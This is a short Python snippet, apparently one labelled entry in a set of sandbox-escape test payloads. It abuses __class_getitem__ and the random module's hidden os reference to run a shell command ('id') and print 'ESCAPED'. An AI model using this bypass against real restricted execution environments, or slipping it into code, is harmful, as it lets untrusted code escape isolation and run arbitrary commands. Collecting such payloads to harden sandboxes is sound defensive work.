# class: __class_getitem__ runs on subscription of a class
import random
class G:
    def __class_getitem__(cls, item):
        return random._os.system(item)
print("ESCAPED", G["id"])
